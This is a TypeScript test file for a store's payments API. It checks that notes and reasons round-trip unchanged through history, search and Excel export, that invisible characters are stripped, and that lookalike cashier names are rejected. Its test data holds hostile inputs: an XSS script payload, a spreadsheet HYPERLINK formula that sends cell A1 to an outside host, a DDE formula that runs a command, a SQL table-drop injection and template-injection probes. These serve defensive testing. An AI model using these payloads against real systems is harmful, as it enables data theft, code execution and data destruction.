import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { sandboxOf } from '../support/in-process-sandbox.ts';
import { receive } from '../support/make-payments.ts';
import { exportedSheet } from '../support/read-xlsx.ts';
import { dataOf, failureOf } from '../support/unwrap-result.ts';

const sandbox = await sandboxOf(test);

const admin = await sandbox.api('tiendaluna');
const cashier = await sandbox.api('tiendaluna-centro-caja1');
const token = await sandbox.signIn('tiendaluna');

const KEPT: Record<string, string> = {
  markup: '<img src=x onerror=alert(1)><script>alert(1)</script>',
  entities: '&lt;b&gt; &amp; &#x202e;',
  'a formula': '=HYPERLINK("http://x.gt?"&A1,"Premio")',
  'a formula with a sign': '+cmd|" /C calc"!A0',
  emoji: '👩‍👩‍👧‍👦 🇬🇹 ❤️ ¡gracias! 🧾',
  'marks piled up': 'Z̷̡̢a̸͜l̵̨g̶o̷',
  SQL: `'); drop table transactions; --`,
  'a template': '{{7*7}} <%= 7*7 %> %s %n',
  backslashes: 'C:\\temp\\nota "x" \\u0000',
};

for (const [what, text] of Object.entries(KEPT)) {
  test(`${what} in a note or reason is returned unchanged by lists, history, search and Excel files`, async () => {
    const { transaction } = dataOf(
      await cashier.transactions.sendRequest({ friUserId: 'au_maria', amount: 1, note: text }),
    );
    assert.is(transaction.note, text);
    const canceled = dataOf(
      await cashier.transactions.cancelRequest({ transactionId: transaction.id, reason: text }),
    ).transaction;
    assert.equal([canceled.statusReason, canceled.timeline?.at(-1)?.reason], [text, text]);
    const { data } = dataOf(
      await admin.transactions.history({ search: text, pageProperties: { currentPage: 1, pageSize: 10 } }),
    );
    assert.equal(
      data.map(({ id, note }) => [id, note]),
      [[transaction.id, text]],
    );
    const { rows } = await exportedSheet(await admin.transactions.exportHistory({ search: text }));
    const cellOf = (head: string) => rows[1]?.[rows[0]?.findIndex((cell) => cell?.value === head) ?? -1];
    assert.equal([cellOf('Nota'), cellOf('Motivo')], Array(2).fill({ kind: 'text', value: text }));
  });
}

test('invisible characters are removed from notes, reasons and searches', async () => {
  const note = 'pago \u202e05.521Q\u202c de\u200b María\ufeff';
  const seen = 'pago 05.521Q de María';
  const { transaction } = dataOf(
    await cashier.transactions.sendRequest({ friUserId: 'au_maria', amount: 1, note }),
  );
  const canceled = await cashier.transactions.cancelRequest({ transactionId: transaction.id, reason: note });
  assert.equal([transaction.note, dataOf(canceled).transaction.statusReason], [seen, seen]);
  const page = { currentPage: 1, pageSize: 10 };
  const found = dataOf(await admin.transactions.history({ search: `${seen}\u2060`, pageProperties: page }));
  assert.equal(
    found.data.map(({ id }) => id),
    [transaction.id],
  );
});

for (const text of [
  '\u200b',
  '\u2060',
  '\u2800',
  '\u3164',
  '\u00ad',
  '\u{e0061}',
  '\u202d\u202c',
  ' \u0085 ',
]) {
  test(`a name, an address or a reason of only ${JSON.stringify(text)} counts as empty`, async () => {
    const transactionId = await receive(sandbox.database, 'us_caja1', 1);
    const cashierData = {
      username: 'tiendaluna-centro-nadie',
      emailAddress: 'nadie@luna.gt',
      referenceId: 'C1',
    };
    const branch = { id: 'br_centro', regionId: 'gt-01-01-z10', referenceId: 'C1' };
    const responses = {
      name: [
        await admin.cashiers.create({ ...cashierData, name: text, businessBranchId: 'br_centro' }),
        await admin.cashiers.modify({ userId: 'us_luna', level: 'Business', name: text }),
        await admin.branches.update({ ...branch, name: text, address: 'Zona 1' }),
      ],
      address: [await admin.branches.update({ ...branch, name: 'Centro', address: text })],
      reason: [await admin.transactions.refund({ transactionId, reason: text })],
      countReason: [await cashier.closings.close({ countedAmount: 1, countReason: text })],
    };
    for (const [field, all] of Object.entries(responses))
      for (const response of all)
        assert.equal(failureOf(response).fields, [{ field, message: 'Este campo es requerido' }]);
  });
}

test('a name that looks like another one counts as taken, however it is written', async () => {
  const as = (name: string, username: string) => ({
    name,
    username: `tiendaluna-centro-${username}`,
    emailAddress: 'caja@luna.gt',
    referenceId: 'C1',
    businessBranchId: 'br_centro',
  });
  // Stored as by a version without this rule.
  await sandbox.database.query(`update users set name = E'Caja\\u00ad 1' where id = 'us_caja1'`);
  for (const name of [
    'Caja 1',
    'Caja 1\u200b',
    '\u202dCAJA 1',
    'Caja\u28001',
    'Ｃａｊａ １',
    'Caja 1\ufe0f',
    'Ca\u200dja ①',
  ]) {
    const { status, fields } = failureOf(await admin.cashiers.create(as(name, 'otra')));
    assert.equal([status, fields?.[0]?.field], [409, 'name'], escape(name));
  }
  assert.ok(
    (await admin.cashiers.create(as('Сaja 1', 'cirilica'))).ok,
    'letters of another script are others',
  );
});

test('a lone surrogate, which the database cannot store, is rejected instead of replaced', async () => {
  const request = (note: string) =>
    sandbox.handle(
      new Request('http://sandbox/api/transactions/v3/requests/send', {
        method: 'POST',
        headers: { Authorization: `Bearer ${token}` },
        body: `{"requestContent":{"friUserId":"au_maria","amount":1,"note":"${note}"}}`,
      }),
    );
  assert.is((await request('x\\ud83d')).status, 400);
  assert.is((await request('\\udc00x')).status, 400);
  const whole = await request('\\ud83d\\ude00');
  assert.is((await whole.json()).responseContent.transaction.note, '😀');
});
